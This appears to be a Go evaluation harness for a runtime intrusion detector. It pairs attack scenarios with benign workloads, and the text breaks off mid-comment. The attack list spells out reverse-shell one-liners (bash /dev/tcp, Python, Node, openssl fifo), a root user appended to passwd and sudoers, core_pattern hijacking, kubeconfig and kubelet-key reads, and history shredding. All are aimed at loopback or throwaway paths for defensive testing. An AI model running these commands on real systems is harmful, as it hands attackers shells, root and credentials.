// Package scenarios runs vigil's detection evaluation: real attack programs
// and real benign workloads, each under `vigil trace`, their events (and the
// cgroup's CPU samples, read the way the agent reads them) run through the
// detector, and a report of what was detected, how fast, and what the
// learned model alone achieves (ROC AUC, detection at a fixed false-positive
// rate). Attacks are safe on the machine that runs them: they fail, act
// only on their own files and processes, or talk only to listeners the
// harness runs on loopback.
package scenarios

import (
	"bufio"
	"compress/gzip"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"vigil.dev/vigil/detector"
	"vigil.dev/vigil/event"
)

// Scenario is one workload.
type Scenario struct {
	Name   string
	Attack bool
	Class  detector.Class // the class an attack must be detected as
	Desc   string
	Cmd    []string // "{bin}" is the build directory, "{src}" this folder, "{fix}" the corpus fixtures
	Env    []string // "{port}" is the reverse-shell listener's port
	Needs  []string // programs the workload runs (looked up in PATH)
	Setup  []string // fixtures it starts from (parts of benign/corpus/setup.sh)
	CI     bool     // benign: in the subset TestEval runs in make test
	// Timeout replaces Options.Timeout when longer: a workload that runs
	// for 40 s on purpose needs room on a loaded node.
	Timeout time.Duration
}

// Attacks and Benign are the scenario sets.
var Attacks = []Scenario{
	{Name: "cpu-miner", Class: detector.ClassCPU, Desc: "4 threads hashing with no syscalls for 6 s", Cmd: []string{"{bin}/cpu_miner"}, Env: []string{"MINER_SECONDS=6"}},
	{Name: "miner-as-compiler", Class: detector.ClassCPU, Desc: "the miner copied at run time to a compiler's name (cc1), then 4 threads for 6 s", Cmd: []string{"sh", "-c", `d=$(mktemp -d /tmp/vigil-cc1-XXXXXX) && cp {bin}/cpu_miner "$d/cc1" && "$d/cc1"; rc=$?; rm -rf "$d"; exit $rc`}, Env: []string{"MINER_SECONDS=6"}},
	{Name: "stratum-pool", Class: detector.ClassCPU, Desc: "stratum subscribe to a pool port (loopback listener)", Cmd: []string{"{bin}/stratum"}},
	{Name: "dns-unauthorized", Class: detector.ClassNetwork, Desc: "DNS over UDP and TCP to 127.0.0.77, not the node's resolver", Cmd: []string{"{bin}/dns_exfil"}},
	{Name: "reverse-shell", Class: detector.ClassNetwork, Desc: "connect, dup2 the socket onto stdio, exec /bin/sh", Cmd: []string{"{bin}/reverse_shell"}, Env: []string{"PORT={port}"}},
	{Name: "bash-dev-tcp", Class: detector.ClassNetwork, Desc: "bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1", Cmd: []string{"bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1"}, Env: []string{"PORT={port}"}},
	{Name: "mount-escape", Class: detector.ClassFSEscape, Desc: "mount and umount2 (failing: no such target)", Cmd: []string{"{bin}/fs_escape", "mount"}},
	{Name: "proc1-root", Class: detector.ClassFSEscape, Desc: "the host root through /proc/1/root", Cmd: []string{"{bin}/fs_escape", "proc1root"}},
	{Name: "core-pattern", Class: detector.ClassFSEscape, Desc: "opens /proc/sys/kernel/core_pattern (read-only)", Cmd: []string{"{bin}/fs_escape", "core_pattern"}},
	{Name: "release-agent", Class: detector.ClassFSEscape, Desc: "opens cgroup v1 release_agent files (read-only)", Cmd: []string{"{bin}/fs_escape", "release_agent"}},
	{Name: "shocker", Class: detector.ClassFSEscape, Desc: "name_to_handle_at + open_by_handle_at on its own file", Cmd: []string{"{bin}/shocker"}},
	{Name: "symlink-race", Class: detector.ClassFSEscape, Desc: "swaps links to /etc/shadow in its own directory", Cmd: []string{"{bin}/symlink_race"}},
	{Name: "runtime-socket", Class: detector.ClassFSEscape, Desc: "connects to the containerd/docker socket (sends nothing)", Cmd: []string{"{bin}/runtime_socket"}},
	{Name: "userns", Class: detector.ClassPrivesc, Desc: "unshare(CLONE_NEWUSER)", Cmd: []string{"{bin}/namespaces", "userns"}},
	{Name: "setns", Class: detector.ClassPrivesc, Desc: "setns into its own network namespace", Cmd: []string{"{bin}/namespaces", "setns"}},
	{Name: "setuid-root", Class: detector.ClassPrivesc, Desc: "drops to nobody, then setuid(0) (EPERM)", Cmd: []string{"{bin}/setuid_root"}},
	{Name: "capset", Class: detector.ClassPrivesc, Desc: "capset asking back CAP_SYS_ADMIN it dropped (EPERM)", Cmd: []string{"{bin}/capset"}},
	{Name: "ptrace-sibling", Class: detector.ClassPrivesc, Desc: "PTRACE_ATTACH and PEEKDATA on its own child", Cmd: []string{"{bin}/ptrace_sibling"}},
	{Name: "bpf", Class: detector.ClassPrivesc, Desc: "bpf(BPF_PROG_LOAD) with no attributes (fails)", Cmd: []string{"{bin}/kernel_attack", "bpf"}},
	{Name: "module-load", Class: detector.ClassPrivesc, Desc: "finit_module/init_module of nothing (fails)", Cmd: []string{"{bin}/kernel_attack", "module"}},
	{Name: "exploit-prep", Class: detector.ClassPrivesc, Desc: "keyctl, userfaultfd, perf_event_open", Cmd: []string{"{bin}/kernel_attack", "exploit-prep"}},
	{Name: "wx-memory", Class: detector.ClassPrivesc, Desc: "mmap and mprotect with PROT_WRITE|PROT_EXEC", Cmd: []string{"{bin}/wx_memory"}},
	{Name: "fileless-exec", Class: detector.ClassPrivesc, Desc: "exec of a program from a memfd", Cmd: []string{"{bin}/fileless"}},
	// written apart from the rules (issue 12): other tools, other syscalls
	{Name: "miner-niced-thread", Class: detector.ClassCPU, Desc: "one hashing thread, niced, under a name of its own, 8 s", Cmd: []string{"nice", "-n", "19", "{bin}/spinner", "1", "8"}},
	{Name: "miner-duty-cycle", Class: detector.ClassCPU, Desc: "2 hashing threads sleeping 10 ms in every 30 (xmrig's thread hint), 10 s", Cmd: []string{"{bin}/spinner", "2", "10", "20", "10"}},
	{Name: "python-reverse-shell", Class: detector.ClassNetwork, Desc: "python: connect, dup2 onto stdio, subprocess.call /bin/sh -i (a vfork child)", Cmd: []string{"/usr/bin/python3", "-c",
		`import socket,subprocess,os;s=socket.socket();s.connect(("127.0.0.1",int(os.environ["PORT"])));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])`}, Env: []string{"PORT={port}"}},
	{Name: "python-socket-commands", Class: detector.ClassNetwork, Desc: "python runs a command it read from a connected socket with the socket as its output, no shell", Cmd: []string{"/usr/bin/python3", "-c",
		`import socket,subprocess,os;s=socket.socket();s.connect(("127.0.0.1",int(os.environ["PORT"])));l=s.makefile("rb").readline().decode();subprocess.run(l.split(";")[0].split(),stdout=s.fileno(),stderr=s.fileno())`}, Env: []string{"PORT={port}"}},
	{Name: "perl-dns-foreign", Class: detector.ClassNetwork, Desc: "perl IO::Socket UDP query to 127.0.0.89:53 (no listener)", Cmd: []string{"perl", "-MIO::Socket::INET", "-e",
		`$s=IO::Socket::INET->new(PeerAddr=>"127.0.0.89:53",Proto=>"udp") or die; $s->send("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03foo\x00\x00\x01\x00\x01")`}},
	{Name: "proc-pid-cwd", Class: detector.ClassFSEscape, Desc: "lists and reads below another process's /proc/PID/cwd", Cmd: []string{"sh", "-c", `sleep 3 & p=$!; ls /proc/$p/cwd/ >/dev/null; cat /proc/$p/cwd/etc/hostname >/dev/null 2>&1; kill $p`}},
	{Name: "proc-environ", Class: detector.ClassFSEscape, Desc: "cat of other processes' /proc/PID/environ (pid 1, the parent)", Cmd: []string{"sh", "-c", `for p in 1 $PPID; do cat /proc/$p/environ >/dev/null 2>&1; done; true`}},
	{Name: "core-pattern-write", Class: detector.ClassFSEscape, Desc: "as nobody, echo a pipe handler into core_pattern (refused)", Cmd: []string{"setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "sh", "-c", `echo "|/tmp/x %p" > /proc/sys/kernel/core_pattern; true`}},
	{Name: "cgroup-mount-userns", Class: detector.ClassFSEscape, Desc: "unshare -Urm, mount of a cgroup v1 hierarchy (refused), release_agent written in its own directory", Cmd: []string{"unshare", "-Urm", "sh", "-c",
		`d=$(mktemp -d); mount -t cgroup -o rdma cgroup $d 2>/dev/null; echo /tmp/x > $d/release_agent; echo 1 > $d/notify_on_release; rm -rf $d; true`}},
	{Name: "proc-mem-open", Class: detector.ClassPrivesc, Desc: "python opens its child's /proc/PID/mem for writing (writes nothing)", Cmd: []string{"/usr/bin/python3", "-c",
		`import subprocess;p=subprocess.Popen(["sleep","2"]);f=open("/proc/%d/mem"%p.pid,"r+b");f.close();p.kill()`}},
	{Name: "su-as-nobody", Class: detector.ClassPrivesc, Desc: "as nobody, exec of the setuid su (fails: no terminal, no password)", Cmd: []string{"setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "su", "-c", "id", "root"}},
	{Name: "clone3-userns", Class: detector.ClassPrivesc, Desc: "clone3 of a child in new user and mount namespaces (flags in its struct clone_args)", Cmd: []string{"{bin}/namespaces", "clone3"}},
	{Name: "dns-sendmmsg", Class: detector.ClassNetwork, Desc: "one DNS query to 127.0.0.77:53 with sendmmsg from an unconnected UDP socket (address in msg_name)", Cmd: []string{"{bin}/dns_exfil", "sendmmsg"}},
	{Name: "preload-env-exec", Class: detector.ClassPrivesc, Desc: "python os.execve of /bin/true with LD_PRELOAD in the environment it passes (a missing library: the loader ignores it)", Cmd: []string{"/usr/bin/python3", "-c",
		`import os;os.execve("/bin/true",["true"],{"PATH":"/usr/bin:/bin","LD_PRELOAD":"/tmp/vigil-preload-none/hook.so"})`}},
	{Name: "chroot-passwd", Class: detector.ClassPrivesc, Desc: "a user added to /etc/passwd and sudoers.d inside a throwaway root (chroot)", Cmd: []string{"sh", "-c",
		`r=$(mktemp -d); mkdir -p $r/bin $r/etc/sudoers.d; cp /usr/bin/busybox $r/bin/; chroot $r /bin/busybox sh -c 'echo evil:x:0:0::/root:/bin/sh >> /etc/passwd; echo "evil ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/evil'; rm -rf $r`}},
	// the detection issue's known gaps
	{Name: "python-miner", Class: detector.ClassCPU, Desc: "a Python miner: sha256 in a process per core for 40 s, shares to a pool (JSON lines, a job every 3 s) on loopback, not a stratum port", Cmd: []string{"/usr/bin/python3", "{src}/attacks/py_miner.py"}, Env: []string{"POOL=127.0.0.1:{pool}", "MINER_SECONDS=40"}, Timeout: 2 * time.Minute},
	{Name: "memfd-dlopen", Class: detector.ClassPrivesc, Desc: "libm copied into a memfd and dlopen'd through /proc/self/fd/N (no exec)", Cmd: []string{"{bin}/memfd_load", "dlopen"}},
	{Name: "memfd-mprotect", Class: detector.ClassPrivesc, Desc: "machine code written into a memfd, mapped readable, made executable with mprotect and run", Cmd: []string{"{bin}/memfd_load", "mprotect"}},
	{Name: "tmpfile-drop", Class: detector.ClassPrivesc, Desc: "a program written to an O_TMPFILE file, linked into /tmp through its fd (AT_EMPTY_PATH) and run", Cmd: []string{"{bin}/tmpfile_drop"}},
	{Name: "ps-environ", Class: detector.ClassFSEscape, Desc: "the system's ps printing other processes' environments (ps eww, ps auxe)", Cmd: []string{"sh", "-c", "ps eww -p 1 >/dev/null; ps auxe >/dev/null"}},
	// as exploit kits, red-team tools and CVE proofs of concept write them (issue 12, second round)
	{Name: "runc-exe-overwrite", Class: detector.ClassPrivesc, Desc: "CVE-2019-5736's shape: a child's /proc/PID/exe kept open, reopened for writing through /proc/self/fd/N, and /proc/self/exe (ETXTBSY: its own running program)", Cmd: []string{"{bin}/cve_shapes", "runc-exe"}},
	{Name: "dirtycow-shape", Class: detector.ClassPrivesc, Desc: "CVE-2016-5195's shape: madvise(MADV_DONTNEED) racing writes through /proc/self/mem to a private mapping of its own read-only file", Cmd: []string{"{bin}/cve_shapes", "dirtycow"}},
	{Name: "dirtypipe-shape", Class: detector.ClassPrivesc, Desc: "CVE-2022-0847's shape: a pipe filled and drained, one byte spliced from its own read-only file into it, then a write into the pipe", Cmd: []string{"{bin}/cve_shapes", "dirtypipe"}},
	{Name: "cwd-fd-leak", Class: detector.ClassFSEscape, Desc: "CVE-2024-21626's shape: the working directory set to /proc/self/fd/N of a directory fd, then a relative path out of it (its own directory)", Cmd: []string{"{bin}/cve_shapes", "cwd-fd"}},
	{Name: "k3s-containerd-socket", Class: detector.ClassFSEscape, Desc: "connects to k3s's containerd socket (/run/k3s/containerd/containerd.sock, missing here)", Cmd: []string{"/usr/bin/python3", "-c",
		"import socket\ns=socket.socket(socket.AF_UNIX)\ntry: s.connect('/run/k3s/containerd/containerd.sock')\nexcept OSError: pass"}},
	{Name: "docker-api-tcp", Class: detector.ClassFSEscape, Desc: "curl of the Docker API over TCP on loopback (127.0.0.1:2375, refused: no daemon)", Cmd: []string{"sh", "-c", "curl -s --max-time 2 http://127.0.0.1:2375/containers/json; true"}},
	{Name: "history-truncate-shred", Class: detector.ClassFSEscape, Desc: "a .bash_history of its own emptied with truncate -s0, then shred -u (ftruncate through the fd, renamed away, unlinked)", Cmd: []string{"sh", "-c",
		`d=$(mktemp -d); printf 'id\ncat /etc/shadow\n' > $d/.bash_history; truncate -s0 $d/.bash_history; echo x > $d/.bash_history; shred -u $d/.bash_history; rm -rf $d`}},
	{Name: "node-kubeconfig-read", Class: detector.ClassPrivesc, Desc: "cat of a node's kubeconfigs and kubelet client key through a host mount and k3s's kubeconfig (missing here: fails)", Cmd: []string{"sh", "-c",
		`for f in /host/etc/kubernetes/admin.conf /host/var/lib/kubelet/pki/kubelet-client-current.pem /etc/rancher/k3s/k3s.yaml; do cat $f >/dev/null 2>&1; done; true`}},
	{Name: "systemd-unit-persist", Class: detector.ClassPrivesc, Desc: "a systemd unit and an rc.local written into a host root mounted at its own directory (DIR/host/etc/...)", Cmd: []string{"sh", "-c",
		`d=$(mktemp -d); mkdir -p $d/host/etc/systemd/system; printf '[Service]\nExecStart=/tmp/x\n' > $d/host/etc/systemd/system/update.service; echo /tmp/x > $d/host/etc/rc.local; rm -rf $d`}},
	{Name: "node-pipe-shell", Class: detector.ClassNetwork, Desc: "node: child_process.spawn of /bin/sh with pipes, relayed to and from a connection (revshells' node one-liner)", Cmd: []string{"node", "-e",
		`const n=require("net"),cp=require("child_process");const sh=cp.spawn("/bin/sh",[]);const c=n.connect(+process.env.PORT,"127.0.0.1",()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c)});sh.on("exit",()=>c.destroy())`}, Env: []string{"PORT={port}"}},
	{Name: "python-pipe-shell", Class: detector.ClassNetwork, Desc: "python: Popen of /bin/sh -i with pipes, fed what the connection sends, its output sent back", Cmd: []string{"/usr/bin/python3", "-c",
		`import socket,subprocess,os;s=socket.socket();s.connect(("127.0.0.1",int(os.environ["PORT"])));p=subprocess.Popen(["/bin/sh","-i"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT);p.stdin.write(s.recv(1024));p.stdin.close();s.sendall(p.stdout.read());s.close()`}, Env: []string{"PORT={port}"}},
	{Name: "fifo-openssl-shell", Class: detector.ClassNetwork, Desc: "mkfifo, `sh -i < fifo 2>&1 | openssl s_client -quiet -connect 127.0.0.1:PORT > fifo` (the listener speaks no TLS: s_client gives up)", Cmd: []string{"sh", "-c",
		`f=$(mktemp -u /tmp/vigil-fifo-XXXXXX); mkfifo $f; /bin/sh -i < $f 2>&1 | timeout 5 openssl s_client -quiet -connect 127.0.0.1:$PORT > $f 2>/dev/null; rm -f $f; true`}, Env: []string{"PORT={port}"}},
}

// Benign is the corpus of everyday work: no run may get a verdict. The
// workloads marked CI run in make test (TestEval); make eval runs all.
var Benign = []Scenario{
	{Name: "web-server", CI: true, Desc: "busybox httpd under 150 requests", Cmd: []string{"sh", "{src}/benign/web_server.sh"}, Env: []string{"PORT={port2}"}},
	{Name: "go-service", CI: true, Desc: "multi-threaded Go HTTP service with 4 client goroutines", Cmd: []string{"{bin}/go_service"}},
	{Name: "batch-files", CI: true, Desc: "batch job: filter, sort, gzip, checksum 60 files", Cmd: []string{"sh", "{src}/benign/batch_files.sh"}},
	{Name: "compile", CI: true, Desc: "gcc compile and link of a C program", Cmd: []string{"sh", "{src}/benign/compile.sh"}},
	{Name: "shell-pipeline", CI: true, Desc: "seq | awk | sort | uniq | sed pipelines", Cmd: []string{"sh", "{src}/benign/pipeline.sh"}},
	{Name: "kv-database", CI: true, Desc: "database-like: pread/pwrite, WAL with fsync, checkpoint + rename", Cmd: []string{"{bin}/kvstore", "/tmp/vigil-kv-eval", "6000"}},
	{Name: "idle-service", CI: true, Desc: "mostly idle, periodic status and log rotation for 3 s", Cmd: []string{"sh", "{src}/benign/idle_service.sh"}},
	{Name: "archive", CI: true, Desc: "tar + gzip backup, list, restore, diff", Cmd: []string{"sh", "{src}/benign/archive.sh"}},
	{Name: "text-search", CI: true, Desc: "log analysis with awk, grep, sed, cut", Cmd: []string{"sh", "{src}/benign/text_search.sh"}},
	{Name: "find-stat", CI: true, Desc: "inventory: find, du, ls -la /etc, stat", Cmd: []string{"sh", "{src}/benign/find_stat.sh"}},
	{Name: "compress-cpu", CI: true, Desc: "CPU-heavy gzip -9 of 20 MB", Cmd: []string{"sh", "{src}/benign/compress_cpu.sh"}},
	{Name: "sort-numbers", CI: true, Desc: "shuf and sort of 600k numbers", Cmd: []string{"sh", "{src}/benign/sort_numbers.sh"}},
	{Name: "memfd-jit", CI: true, Desc: "memfd shared memory with a child, and a JIT's W^X double mapping of a memfd (mmap and mprotect)", Cmd: []string{"{bin}/memfd_jit"}},
	{Name: "loader-env", CI: true, Desc: "a workload configured with a preloaded library (glibc's malloc checker) whose programs inherit it, and a script that sets LD_LIBRARY_PATH for its commands", Cmd: []string{"sh", "{src}/benign/loader_env.sh"},
		Env: []string{"LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libc_malloc_debug.so.0", "MALLOC_CHECK_=3"}},
	{Name: "copy-checksum", CI: true, Desc: "cp -r, md5sum -c, rm -r", Cmd: []string{"sh", "{src}/benign/copy_checksum.sh"}},
	// the corpus (benign/corpus): builds, package installs, databases,
	// services on runtimes, version control, archives, scheduled jobs
	corpus("go-build", true, "go build of a module (compile and link), then the binary", []string{"go"}, "go"),
	corpus("go-test", false, "go vet and go test with a short benchmark", []string{"go"}, "go"),
	corpus("make-parallel", false, "make -j2 of a 17-file C project, make check, clean", []string{"make", "gcc"}, "c"),
	corpus("cxx-compile", false, "g++ -O2 of an STL program, then the program", []string{"g++"}, "c"),
	corpus("cargo-build", false, "cargo build --offline --release of a crate, then the binary", []string{"cargo"}, "rust"),
	corpus("javac-jar", false, "javac of three classes, jar, a word count with the jar", []string{"javac", "jar", "java"}, "data", "java"),
	corpus("java-compute", false, "JVM data job: two threads counting primes (JIT)", []string{"java"}, "java"),
	corpus("java-service", false, "JVM HTTP service answering 200 requests", []string{"java"}, "java"),
	corpus("java-source", true, "a single-file Java program run from source", []string{"java"}),
	corpus("node-server", true, "Node.js HTTP server answering 300 requests", []string{"node"}, "node"),
	corpus("node-etl", false, "Node.js script summarising a 60k-row CSV", []string{"node"}, "data", "node"),
	corpus("npm-install", false, "npm install (offline) of an app with a local dependency, npm test", []string{"npm", "node"}, "node"),
	corpus("python-venv", true, "python3 -m venv with pip, the venv's python and pip", []string{"/usr/bin/python3"}),
	corpus("pip-install", false, "pip install from local files into a target directory, then import", []string{"/usr/bin/python3"}, "venv"),
	corpus("python-etl", false, "Python data job: group, mean and median of 60k CSV rows", []string{"/usr/bin/python3"}, "data", "py"),
	corpus("python-http", false, "threaded Python HTTP service answering 200 requests", []string{"/usr/bin/python3"}),
	corpus("python-tests", false, "python3 -m unittest and compileall", []string{"/usr/bin/python3"}, "py"),
	corpus("sqlite", true, "SQLite: import 60k rows, index, aggregate, transaction, vacuum, dump", []string{"sqlite3"}, "data"),
	corpus("postgres", false, "PostgreSQL server: pgbench init and 3 s run, psql, pg_dump, stop", []string{"start-stop-daemon", "pg_ctlcluster"}, "pg"),
	corpus("git-workflow", false, "git init, 25 commits, branch and merge, log, blame, gc", []string{"git"}),
	corpus("git-clone", false, "git clone of a local repository, log --stat, diff, archive", []string{"git"}, "git"),
	corpus("deb-install", false, "dpkg-deb info/extract, dpkg --root install, list, remove in a throwaway root", []string{"dpkg", "dpkg-deb"}, "deb"),
	corpus("xz-parallel", false, "tar of /usr/include through xz -T2, list, test", []string{"xz", "tar"}),
	corpus("zstd-bzip2", false, "zstd -T2 -15 and bzip2 -9, checked by decompressing", []string{"zstd", "bzip2"}, "data"),
	corpus("grep-find", true, "find by name and size, grep -r, xargs wc over the kernel and C library headers", []string{"find", "grep", "xargs"}),
	corpus("cron-jobs", false, "cron-like: heartbeat, log rotation with gzip, cleanup, a backup", []string{"gzip", "tar"}),
	corpus("shell-xargs", false, "bash: process substitution, xargs -P2 sha256sum, while-read", []string{"xargs", "sha256sum"}),
	corpus("openssl-certs", false, "a small CA: keys, certificates, verify, encrypt, digests", []string{"openssl"}),
	corpus("perl-report", false, "Perl report over 40 log files", []string{"perl"}, "data"),
	corpus("ssh-keygen", false, "14 SSH keys, fingerprints, authorized_keys", []string{"ssh-keygen"}),
	corpus("awk-crunch", true, "CPU-bound awk: 12 passes of statistics over 60k rows", []string{"awk"}, "data"),
	corpus("csv-report", false, "coreutils ETL: sort, join, paste, cut, uniq over 60k rows", []string{"sort", "join", "paste"}, "data"),
	// written apart from the rules (issue 12); those marked CI once raised verdicts
	corpus("proc-self-io", true, "a service's own fds and memory through /proc: output to /proc/self/fd/N and /dev/fd/N, fd table listed, its executable checksummed, its own /proc/self/mem read, an app log truncated and shredded", []string{"tee", "sha256sum", "shred", "/usr/bin/python3"}),
	corpus("entrypoint-links", true, "an entrypoint: logs linked to /dev/stdout and /proc/self/fd/1, mtab to /proc/self/mounts, envsubst, exec", []string{"envsubst"}),
	corpus("hw-inventory", true, "lscpu (DMI through /dev/mem), ls -l /dev /proc /proc/sys/kernel /sys/kernel, sysctl -a, df, findmnt", []string{"lscpu", "sysctl", "findmnt"}),
	corpus("root-drops-user", true, "root drops to nobody: runuser, su, setpriv, python os.setresuid, perl", []string{"runuser", "su", "setpriv", "/usr/bin/python3", "perl"}),
	corpus("static-lib-strip", true, "cc -c, ar, ranlib, ld -r, a shared library, strip, then the programs", []string{"make", "gcc", "ar", "strip"}),
	corpus("sort-parallel", false, "sort --parallel=2 of 2M lines in memory, uniq -c, join, head", []string{"sort", "join"}),
	corpus("bc-checksums", false, "bc computing pi, factor, sha256sum of 100 MB", []string{"bc", "factor", "sha256sum"}),
	corpus("openssl-tls", false, "openssl genrsa, req, s_server and s_client over loopback TLS, curl -k, speed", []string{"openssl", "curl"}),
	corpus("ps-monitor", false, "a monitoring sidecar: ps, top, free, vmstat, df, ss, /proc/PID/stat", []string{"ps", "top", "free"}),
	corpus("libs-locale", false, "ldconfig -p, locale, iconv, getent, lscpu, getconf", []string{"ldconfig", "locale", "iconv"}),
	corpus("find-exec-sed", false, "find -exec sed -i, xargs -0 awk, xargs -P2, grep -rl | md5sum", []string{"find", "xargs", "sed"}),
	corpus("archive-formats", false, "tar through gzip, xz, zstd, lz4; zip/unzip; xz -T2", []string{"tar", "xz", "zstd", "lz4", "zip", "unzip"}),
	corpus("logrotate-like", false, "numbered rotation with gzip, copytruncate with xz, pruning", []string{"gzip", "xz"}),
	corpus("npm-pack-ci", false, "npm pack, npm install of the tarball, npm ci --offline, npm run, npx", []string{"npm", "node"}),
	corpus("git-remote-ops", false, "git: bare remote, push, clone, rebase, bisect run, worktree, fsck, gc --aggressive", []string{"git"}),
	corpus("gpg-sign", false, "gpg: batch key generation, detached signature, verify, symmetric encryption", []string{"gpg"}),
	corpus("dpkg-query", false, "dpkg -l/-L/-S, dpkg-query, apt-cache policy/show/depends, apt-get -s", []string{"dpkg", "apt-cache"}),
	corpus("python-http-curl", false, "python3 -m http.server with curl and wget on loopback", []string{"/usr/bin/python3", "curl", "wget"}),
	corpus("perl-http", false, "a one-line Perl HTTP server (IO::Socket::INET) under 30 curl requests", []string{"perl", "curl"}),
	// near-misses of the Python miner: the same CPU for the same time
	long(corpus("python-crunch", false, "Python data job: sha256 and sums in a process per core for 40 s, no network", []string{"/usr/bin/python3"})),
	long(corpus("python-web-load", false, "Python HTTP service doing PBKDF2 per request under keep-alive and per-request clients for 40 s", []string{"/usr/bin/python3"})),
	// everyday work first tried in the second round of issue 12; those
	// marked CI raised verdicts before the rule changes that came with them
	corpus("python-ctypes", true, "Python ctypes: qsort with a Python callback (libffi closures), a callback table, structs", []string{"/usr/bin/python3"}),
	corpus("git-hooks", true, "git with hooks a setup script wrote: pre-commit, commit-msg, post-commit, pre-push, a remote's post-receive", []string{"git"}),
	corpus("xz-exec", true, "an entry point that execs xz -9 -T0 of 4 MB (text, then gzip'd): the compressor is the last process", []string{"xz"}, "text"),
	corpus("useradd-entrypoint", true, "a PUID/PGID entry point: groupadd, useradd, usermod, chown, runuser, userdel, groupdel", []string{"useradd", "groupadd", "userdel", "runuser"}),
	corpus("php-report", false, "an entry point that execs a PHP script: word counts of 14 MB, 5 s of arithmetic", []string{"php"}, "text"),
	corpus("luajit-bench", false, "LuaJIT: 6 s of a numeric loop, then string and table work", []string{"luajit"}),
	corpus("imagemagick-resize", false, "ImageMagick: resize, blur, sharpen, gray of a 1600x1200 photo, identify", []string{"/usr/bin/convert", "/usr/bin/identify"}, "img"),
	corpus("numpy-blas", false, "NumPy on OpenBLAS threads: matrix products, solve, SVD, FFT for 8 s", []string{"/usr/bin/python3", "f2py3"}),
	corpus("ffmpeg-transcode", false, "ffmpeg: an 8 s clip to H.264 (libx264 threads), scaled, a thumbnail, ffprobe", []string{"ffmpeg", "ffprobe"}, "media"),
	corpus("nginx-load", false, "nginx (master, 2 workers) under 320 curl requests, a reload, a graceful quit", []string{"nginx", "curl"}),
	corpus("redis-load", false, "redis-server under redis-benchmark (4 clients, 12k requests), BGSAVE, shutdown", []string{"redis-server", "redis-cli", "redis-benchmark"}),
	corpus("pip-cext", false, "pip builds a local package with a C extension (gcc) into a target directory, then imports it", []string{"/usr/bin/python3", "python3-config", "gcc"}, "cext"),
	corpus("java-gc", false, "a JVM allocating for 10 s: 4 parallel GC threads, then G1 with concurrent marking", []string{"java"}),
	corpus("journal-read", false, "journalctl reads (last lines, boots, errors as JSON, disk usage), last, dmesg", []string{"journalctl"}),
}

// long gives a workload that runs 40 s on purpose two minutes.
func long(s Scenario) Scenario {
	s.Timeout = 2 * time.Minute
	return s
}

// corpus is a workload of benign/corpus: NAME.sh (dashes as
// underscores) run by bash with FIX, the fixtures, in its environment.
func corpus(name string, ci bool, desc string, needs []string, setup ...string) Scenario {
	return Scenario{Name: name, CI: ci, Desc: desc, Needs: append([]string{"bash"}, needs...), Setup: setup,
		Cmd: []string{"bash", "{src}/benign/corpus/" + strings.ReplaceAll(name, "-", "_") + ".sh"}, Env: []string{"FIX={fix}"}}
}

// Options says where things are.
type Options struct {
	Vigil   string // the vigil binary
	Src     string // this folder (test/scenarios)
	Work    string // scratch directory: builds, event files
	Runs    int    // runs per benign workload (>= 2: the first trains the model)
	Log     io.Writer
	Timeout time.Duration // per run
	Keep    string        // if set, copy each run's events (gzip) and samples here
	Only    []string      // if set, only the scenarios of these names
	CI      bool          // benign: only the workloads marked CI (attacks: all)
}

// Run is one execution of a scenario.
type Run struct {
	Scenario  string             `json:"scenario"`
	Attack    bool               `json:"attack"`
	Run       int                `json:"run"`
	Events    int                `json:"events"`
	Samples   int                `json:"samples"`
	Seconds   float64            `json:"seconds"`
	Exit      int                `json:"exit"`
	Verdicts  []detector.Verdict `json:"-"`
	Rules     []string           `json:"rules"`
	Classes   []string           `json:"classes"`
	Class     string             `json:"class,omitempty"`  // attacks: the class it must be detected as
	Detected  bool               `json:"detected"`         // attacks: a verdict of the expected class
	TTD       float64            `json:"ttd_ms,omitempty"` // time to detection from the first event, ms
	FalsePos  int                `json:"false_positives"`  // benign: verdicts (replayed, and printed by vigil trace itself)
	ModelMax  float64            `json:"model_max_score"`  // max model window score
	LiveRules []string           `json:"live_rules"`       // rules of the verdicts vigil trace itself printed
	EventFile string             `json:"event_file"`
}

// Report is eval-report.json.
type Report struct {
	Time              string      `json:"time"`
	Attacks           int         `json:"attacks"`
	Detected          int         `json:"detected"`
	DetectionRate     float64     `json:"detection_rate"`
	BenignRuns        int         `json:"benign_runs"`
	BenignWorkloads   int         `json:"benign_workloads"`
	FalsePositiveRuns int         `json:"false_positive_runs"`
	FalsePositives    int         `json:"false_positives"`
	BenignFailed      []string    `json:"benign_failed,omitempty"` // benign runs that exited non-zero (did not do their work)
	BenignSeconds     float64     `json:"benign_seconds"`
	FPPerHour         float64     `json:"false_positives_per_hour"`
	FPRate            float64     `json:"false_positive_rate"` // benign runs with any verdict / benign runs
	MeanTTDms         float64     `json:"mean_ttd_ms"`
	Classes           []ClassEval `json:"classes"` // per threat class
	Skipped           []Skipped   `json:"skipped,omitempty"`
	Model             ModelEval   `json:"model"`
	Runs              []Run       `json:"runs"`
	CVE               *CVEReport  `json:"cve,omitempty"` // the CVE protocol on the development data set
}

// ClassEval is the rules' figures for one threat class: its attack runs
// detected (a verdict of the class), the verdicts of the class on benign
// runs, and the time from a run's first event to the first verdict of
// the class.
type ClassEval struct {
	Class          string  `json:"class"`
	Attacks        int     `json:"attacks"`
	Detected       int     `json:"detected"`
	DetectionRate  float64 `json:"detection_rate"`
	FalseAlarms    int     `json:"false_alarms"`     // verdicts of the class on benign runs
	FalseAlarmRuns int     `json:"false_alarm_runs"` // benign runs with one
	MeanTTDms      float64 `json:"mean_ttd_ms"`
	P99TTDms       float64 `json:"p99_ttd_ms"`
}

// Skipped is a scenario left out because a program it needs is missing.
type Skipped struct {
	Scenario string `json:"scenario"`
	Missing  string `json:"missing"`
}

// ModelEval is the learned model alone (and two baselines) on the
// scenario windows (1000 events, with order), cross-validated by workload:
// for each benign workload W, a method trains on the first run of every
